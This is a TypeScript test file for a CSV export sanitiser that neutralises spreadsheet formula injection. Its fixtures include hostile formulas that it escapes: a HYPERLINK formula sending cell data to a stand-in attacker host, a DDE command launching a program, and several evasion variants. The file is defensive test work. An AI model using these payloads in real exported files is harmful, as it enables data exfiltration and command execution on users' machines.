import { beginsLikeFormula, csvCell } from '../../../src/domain/spreadsheet-cell';

describe('spreadsheet-safe CSV cells (OWASP CSV injection)', () => {
  it.each<[string, unknown, string]>([
    // Formulas and their hiding places: a leading `'` makes a spreadsheet show them as text.
    ['HYPERLINK exfiltration', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['arithmetic', '=1+2', `'=1+2`],
    ['an @ function', '@SUM(1+1)', `'@SUM(1+1)`],
    ['DDE command', `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['a leading minus', '-2+3', `'-2+3`],
    ['a leading plus that is no phone number', '+1 (415) 555', `'+1 (415) 555`],
    ['a plus with too few digits', '+1234567', `'+1234567`],
    ['a plus with too many digits', '+1234567890123456', `'+1234567890123456`],
    ['an E.164 number followed by a formula', '+14155552671=1', `'+14155552671=1`],
    ['a leading tab', '\t=1', `'\t=1`],
    ['a leading carriage return', '\r=1', `'\r=1`],
    ['a fullwidth equals sign', '\uFF1D1+2', `'\uFF1D1+2`],
    ['a fullwidth at sign', '\uFF20SUM(1)', `'\uFF20SUM(1)`],
    // What stays as it is.
    ['an E.164 number', '+14155552671', '+14155552671'],
    ['the shortest E.164 kept', '+12345678', '+12345678'],
    ['the longest E.164 kept', '+123456789012345', '+123456789012345'],
    ['plain text', 'Bright Smiles Dental', 'Bright Smiles Dental'],
    ['a formula character further in', 'A=B Consulting', 'A=B Consulting'],
    ['a leading space', ' =1', ' =1'],
    ['the empty string', '', ''],
    ['a positive number', 42, '42'],
    ['a negative number (a sign, not a formula)', -2, '-2'],
    ['a fraction', 0.0415, '0.0415'],
    ['a bigint', 12n, '12'],
    ['true', true, 'true'],
    ['false', false, 'false'],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['a date', new Date('2026-11-27T15:04:05.000Z'), '2026-11-27T15:04:05.000Z'],
    ['an invalid date', new Date('nope'), ''],
    ['an array', ['vip', 'dental'], '["vip","dental"]'],
    ['an object', { a: 1 }, '{"a":1}'],
  ])('%s: %j is written as %j', (_label, value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it.each<[string, boolean]>([
    ['=1+2', true],
    ['+14155552671', true],
    ['-x', true],
    ['@x', true],
    ['\tx', true],
    ['\rx', true],
    ['\uFF0Bx', true],
    ['\uFF0Dx', true],
    ['Acme', false],
    ['', false],
    [' =1', false],
    ['1+2', false],
  ])('beginsLikeFormula(%j) is %s', (text, expected) => {
    expect(beginsLikeFormula(text)).toBe(expected);
  });
});
